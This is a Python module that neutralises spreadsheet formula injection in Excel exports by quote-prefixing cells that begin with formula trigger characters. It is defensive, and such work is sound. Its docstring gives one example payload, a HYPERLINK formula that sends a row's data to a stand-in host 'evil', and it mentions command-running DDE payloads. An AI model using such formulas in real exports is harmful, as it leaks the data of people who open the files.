"""Saving Excel workbooks safely: the one place every export turns a workbook into bytes.

Exports carry text typed by citizens and imported from spreadsheets (a message title, a deputy's
name). A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return (or their
full-width forms, which Excel folds to ASCII) is read by spreadsheet programs as a formula: a
title such as `=HYPERLINK("http://evil/?"&A1, "点击")` becomes a live link that leaks the row, and
DDE payloads run commands. openpyxl even stores such strings as formulas itself.

`to_bytes` rewrites every such cell as plain text with Excel's quote prefix (the hidden leading
apostrophe): the value shown and re-imported is unchanged, but it is never evaluated, not even
when someone edits the cell. No export writes formulas on purpose; one that needs to would add
its own marked exception here.
"""

from __future__ import annotations

import io

from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING

# ASCII triggers, and their full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20) that Excel folds to ASCII.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_dangerous(value: object) -> bool:
    """True for text a spreadsheet program would read as a formula (leading spaces ignored)."""
    return isinstance(value, str) and value.lstrip(" \u3000").startswith(FORMULA_TRIGGERS)


def neutralise(book: Workbook) -> int:
    """Turn every formula-like text cell of ``book`` into quoted plain text; returns how many."""
    count = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == TYPE_FORMULA or is_dangerous(cell.value):
                    if not isinstance(cell.value, str):
                        continue
                    cell.data_type = TYPE_STRING
                    cell.quotePrefix = True
                    count += 1
    return count


def to_bytes(book: Workbook) -> bytes:
    """The workbook as .xlsx bytes, neutralised first. Every export saves through here."""
    neutralise(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
